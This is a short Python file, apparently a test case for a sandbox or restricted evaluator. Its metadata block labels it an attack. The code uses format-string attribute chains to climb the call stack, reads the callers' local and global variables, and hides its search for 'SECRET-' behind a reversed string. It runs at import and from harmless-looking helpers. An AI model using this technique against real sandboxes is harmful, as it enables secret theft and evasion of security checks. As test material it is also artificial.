# /// attack
# tries = "Reaches the frames that called it by names in a text that is formatted, which no look at its own names shows."
# gain = "secret"
# plain = "secret"
# ///


def look():
    try:
        raise ValueError
    except ValueError as problem:
        for depth in range(40):
            frame = "{0.__traceback__.tb_frame" + ".f_back" * depth
            for part in ("f_locals", "f_globals"):
                try:
                    text = (frame + "." + part + "}").format(problem)
                except Exception:
                    continue
                at = text.find("".join(reversed("-TERCES")))
                if at >= 0:
                    raise RuntimeError("LEAKED " + text[at : at + 200])


look()


def double(x):
    look()
    return x


class Box:
    def put(self, x):
        look()

    def take(self):
        look()


def apply(f, x):
    look()
    return "{0.__self__} {0._ask}".format(f)
